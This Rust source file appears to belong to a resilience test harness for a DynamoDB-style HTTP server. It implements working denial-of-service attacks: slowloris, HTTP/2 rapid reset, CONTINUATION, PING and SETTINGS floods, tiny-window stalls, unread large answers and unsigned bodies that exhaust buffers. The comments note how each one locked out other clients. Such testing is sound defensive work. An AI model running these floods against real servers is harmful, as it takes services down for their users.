//! Connections that flood, stall, or never read.

use crate::dynamodb::{Requests, wrong_signature};
use crate::frames::{self, END_HEADERS, INITIAL_WINDOW_SIZE};
use crate::http::Connection;
use crate::load::{Flood, connect_many, crowd, streams};
use crate::round::{Round, Target};
use serde_json::json;
use std::collections::VecDeque;
use std::sync::Barrier;
use std::time::Duration;

/// The beginning of a head ("slowloris"). The connection is closed when the head is due.
pub(super) fn head(_: &Target) -> Vec<u8> {
    b"POST / HTTP/1.1\r\nHost: localhost\r\nX-A: ".to_vec()
}

/// The head of a request whose body comes a byte at a time. It does not count as a request in flight,
/// and gets 408 when its time is up.
pub(super) fn head_of_put(target: &Target) -> Vec<u8> {
    target.requests.head("PutItem", 1 << 20, "").into_bytes()
}

/// Floods of HTTP/2 frames, the same again and again. Every second connection does not read.
fn same_frames(count: usize, opening: &[u8], frames: &[u8]) -> Result<Vec<Flood>, String> {
    let make = |index: usize| {
        let frames = frames.to_vec();
        Flood {
            opening: frames::preface(&[], opening),
            next: Box::new(move |_| frames.clone()),
            reads: index.is_multiple_of(2),
        }
    };
    Ok((0..count).map(make).collect())
}

/// PING. Answers that cannot be sent must not pile up.
pub(super) fn pings(_: &Target, count: usize) -> Result<Vec<Flood>, String> {
    same_frames(count, &[], &frames::ping().repeat(1_000))
}

/// SETTINGS. Each must be acknowledged, and may change the windows of all streams.
pub(super) fn settings(_: &Target, count: usize) -> Result<Vec<Flood>, String> {
    let one = |window| frames::settings(&[(INITIAL_WINDOW_SIZE, window)]);
    same_frames(count, &[], &[one(1), one(60_000)].concat().repeat(500))
}

/// Requests that are cancelled at once ("rapid reset"): they never count as open, but cost the
/// server work.
pub(super) fn resets(target: &Target, count: usize) -> Result<Vec<Flood>, String> {
    const REQUESTS: u32 = 200;
    let block = frames::request_block(&target.requests, "ListTables");
    let make = |index: usize| {
        let block = block.clone();
        let next = move |number: u32| {
            let ids = streams(REQUESTS).map(|id| 2 * REQUESTS * number + id);
            ids.flat_map(|id| {
                [frames::headers(id, &block, END_HEADERS), frames::rst_stream(id)].concat()
            })
            .collect()
        };
        let opening = frames::preface(&[], &[]);
        Flood { opening, next: Box::new(next), reads: index.is_multiple_of(2) }
    };
    Ok((0..count).map(make).collect())
}

/// A head whose CONTINUATION frames never end: with fields, and empty ones.
pub(super) fn continuations(target: &Target, count: usize) -> Result<Vec<Flood>, String> {
    let opening = frames::headers(1, &frames::request_block(&target.requests, "ListTables"), 0);
    let field = frames::block([("x-a", "b".repeat(1_000).as_str())]).repeat(16);
    let mut floods = same_frames(count / 2, &opening, &frames::continuation(1, &field, 0))?;
    let empty = frames::continuation(1, &[], 0).repeat(1_000);
    floods.extend(same_frames(count - floods.len(), &opening, &empty)?);
    Ok(floods)
}

/// PRIORITY for streams that are not there, and WINDOW_UPDATE of a byte: frames that ask for nothing.
pub(super) fn priorities(_: &Target, count: usize) -> Result<Vec<Flood>, String> {
    let priorities: Vec<u8> =
        streams(1_000).flat_map(|stream| frames::priority(stream, stream + 2)).collect();
    let mut floods = same_frames(count / 2, &[], &priorities)?;
    floods.extend(same_frames(
        count - floods.len(),
        &[],
        &frames::window_update(0, 1).repeat(1_000),
    )?);
    Ok(floods)
}

/// Answers of 390 KB that may be sent a byte at a time: each window is opened by one, again and again.
pub(super) fn small_windows(target: &Target, count: usize) -> Result<Vec<Flood>, String> {
    const STREAMS: u32 = 25;
    super::work::fill_large(target.requests)?;
    let body = super::work::large_get().into_bytes();
    let asked: Vec<u8> = streams(STREAMS)
        .flat_map(|stream| frames::request(&target.requests, stream, "GetItem", &body))
        .collect();
    let opened: Vec<u8> = streams(STREAMS).flat_map(|id| frames::window_update(id, 1)).collect();
    let mut floods = same_frames(count, &[], &opened)?;
    for flood in &mut floods {
        flood.opening = frames::preface(&[(INITIAL_WINDOW_SIZE, 1)], &asked);
        flood.reads = true;
    }
    Ok(floods)
}

/// Requests on one connection without waiting for the answers.
pub(super) fn pipelining(target: &Target, count: usize) -> Result<Vec<Flood>, String> {
    let key = json!({"TableName": "victim", "Key": {"pk": {"S": "0"}}}).to_string();
    let mut floods = same_frames(count, &[], &target.requests.make("GetItem", key).repeat(100))?;
    floods.iter_mut().for_each(|flood| flood.opening.clear());
    Ok(floods)
}

/// Heads of requests whose bodies never come, on a few HTTP/2 connections. Each counted as a request
/// in flight until its body was due, so that 2048 of them had everybody else refused for 10 KB/s.
pub(super) fn open_heads(round: &mut Round, mut target: Target) -> Result<(), String> {
    const CONNECTIONS: usize = 17;
    /// Fewer than the 128 that one connection may have.
    const STREAMS: u32 = 125;
    /// How often each connection gives up one request and begins another.
    const RENEWAL_INTERVAL: Duration = Duration::from_millis(250);
    let address = target.address();
    let block = frames::request_block(&target.requests, "PutItem");
    round.attack(&mut target, |until| {
        let mut connections = Vec::new();
        for _ in 0..CONNECTIONS {
            let connection = frames::open(address, &[], crate::http::PATIENCE);
            let mut connection = connection.map_err(|error| error.to_string())?;
            let open: VecDeque<u32> = streams(STREAMS).collect();
            for stream in &open {
                // A server that closes the connection has held this off.
                let _ = connection.send(&frames::headers(*stream, &block, END_HEADERS));
            }
            connections.push((connection, open));
        }
        while !until.is_over() {
            std::thread::sleep(RENEWAL_INTERVAL);
            for (connection, open) in &mut connections {
                let (Some(oldest), Some(newest)) = (open.pop_front(), open.back().copied()) else {
                    continue;
                };
                let mut renewal = frames::rst_stream(oldest);
                renewal.extend(frames::headers(newest + 2, &block, END_HEADERS));
                let _ = connection.send(&renewal);
                open.push_back(newest + 2);
            }
        }
        Ok(())
    })
}

/// Clients that ask for 16 MB each and do not read. The endpoint may hold six such answers. They
/// filled the room for all large bodies and answers, so that everybody else was refused for as long
/// as they stayed.
pub(super) fn unread_answers(round: &mut Round, mut target: Target) -> Result<(), String> {
    super::work::fill_large(target.requests)?;
    let (address, body) = (target.address(), super::work::large_batch());
    let request = target.requests.make("BatchGetItem", body);
    round.victim_is_large = true;
    round.attack(&mut target, |until| {
        let mut connections = connect_many(address, 20);
        for connection in &mut connections {
            // Some may be refused, or cut off.
            let _ = connection.send(&request);
        }
        for connection in &mut connections {
            let _ = connection.wait_for_beginning();
        }
        until.wait();
        Ok(())
    })
}

/// Large bodies without a signature or with a wrong one, all but their ends. They were held until
/// their signatures could be verified, and took the room of signed ones: the victim's item of 300 KB
/// was refused.
pub(super) fn unsigned_bodies(round: &mut Round, mut target: Target) -> Result<(), String> {
    /// Most of what a body may have: together far more than the 48 MB of large bodies that are held.
    const LARGE: (usize, usize) = (16, 16_000_000);
    /// These fill the rest.
    const SMALL: (usize, usize) = (45, 300_000);
    /// How long all of them are held.
    const HELD_TIME: Duration = Duration::from_secs(1);
    let requests = target.requests;
    let sent = vec![b' '; LARGE.1];
    round.victim_is_large = true;
    round.attack(&mut target, |_| {
        let large_are_sent = Barrier::new(LARGE.0 + SMALL.0);
        let all_are_sent = Barrier::new(LARGE.0 + SMALL.0);
        crowd(LARGE.0 + SMALL.0, |index| {
            let is_large = index < LARGE.0;
            let large = is_large.then(|| send_most(requests, &sent, index));
            large_are_sent.wait();
            let small = (!is_large).then(|| send_most(requests, &sent[..SMALL.1], index));
            all_are_sent.wait();
            std::thread::sleep(HELD_TIME);
            drop((large, small));
        });
        Ok(())
    })
}

/// Sends a part of a body. A server that does not take it has held this off.
fn send_most(requests: Requests, sent: &[u8], index: usize) -> Option<Connection> {
    let headers = match index % 2 {
        0 => String::new(),
        _ => wrong_signature("host;x-amz-date;x-amz-target"),
    };
    let head = requests.head("PutItem", 16 << 20, &headers);
    let mut connection = Connection::open(requests.address, Duration::from_secs(5)).ok()?;
    connection.send(head.as_bytes()).and_then(|()| connection.send(sent)).ok()?;
    Some(connection)
}
